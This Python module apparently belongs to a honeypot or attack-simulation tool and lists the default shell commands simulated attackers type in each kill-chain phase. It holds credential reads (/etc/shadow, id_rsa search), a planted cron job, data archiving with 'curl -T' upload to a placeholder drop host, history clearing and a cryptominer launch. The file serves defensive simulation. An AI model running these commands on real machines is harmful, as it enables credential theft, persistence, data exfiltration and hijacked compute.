"""Kill-chain phase names a scenario may use, and the commands a phase types by default.

The defaults are what a phase's sessions type when its ``tool_signature``
gives no ``commands``. Hosts in them are internal (RFC 1918) or reserved
(``.invalid``) on purpose: two unrelated actors using the same default must
not share a public endpoint the profiler would take for common C2. The
exfiltration drop host is the phase's own ``c2_callback`` when it has one
(``{drop}`` below).
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

#: Unified Kill Chain phases, in the README's order.
PHASES: Final = (
    "delivery", "exploitation", "persistence", "defense_evasion", "command_and_control",
    "pivoting", "discovery", "privilege_escalation", "execution", "credential_access",
    "lateral_movement", "collection", "exfiltration", "impact", "objectives",
)

#: Phases whose sessions leave a foothold that ``decky: previous_success`` returns to.
FOOTHOLD_PHASES: Final = frozenset({"exploitation", "persistence"})

#: Drop host of the default exfiltration when the phase names no C2 (reserved: never C2).
DEFAULT_DROP_HOST: Final = "drop.invalid"

#: Phase → commands typed in each session by default. Each row says why.
DEFAULT_COMMANDS: Mapping[str, tuple[str, ...]] = {
    # README: delivery, exploitation and command_and_control type nothing of their own
    # (their signals are credentials, payloads and callbacks).
    "delivery": (),
    "exploitation": (),
    "command_and_control": (),
    # README: learning the host.
    "discovery": ("whoami", "id", "uname -a", "ip route", "arp -a", "cat /etc/passwd"),
    # README: read the crontab, install one, look at the authorised keys.
    "persistence": ("crontab -l",
                    '(crontab -l; echo "*/5 * * * * /tmp/.u/run >/dev/null 2>&1") | crontab -',
                    "cat ~/.ssh/authorized_keys"),
    # README: read secrets.
    "credential_access": ("cat /etc/shadow", "find / -name id_rsa"),
    # README: ssh/scp to an internal host (scp from it: a copy to it reads as exfiltration).
    "lateral_movement": ("ssh -o StrictHostKeyChecking=no root@10.0.3.7",
                         "scp root@10.0.3.7:/etc/hostname /tmp/"),
    # README: a tar of data directories.
    "collection": ("tar czf /tmp/.d.tgz /home /var/www /etc",),
    # README: curl -T to a drop host.
    "exfiltration": ("curl -T /tmp/.d.tgz http://{drop}/up",),
    # Not in the README; chosen so the profiler's phase rules recognise each.
    "defense_evasion": ("unset HISTFILE", "history -c"),
    "pivoting": ("ssh -N -L 8080:10.0.3.7:80 root@10.0.3.7",),
    "privilege_escalation": ("sudo -l",),
    "execution": ("chmod +x /tmp/.x", "sh /tmp/.x"),
    "impact": ("nohup ./xmrig -o stratum+tcp://pool.invalid:3333 &",),
    "objectives": (),
}


def default_commands(phase: str, drop_host: str | None) -> tuple[str, ...]:
    """The default commands of ``phase``, the drop host filled in."""
    drop = drop_host or DEFAULT_DROP_HOST
    return tuple(command.replace("{drop}", drop) for command in DEFAULT_COMMANDS[phase])
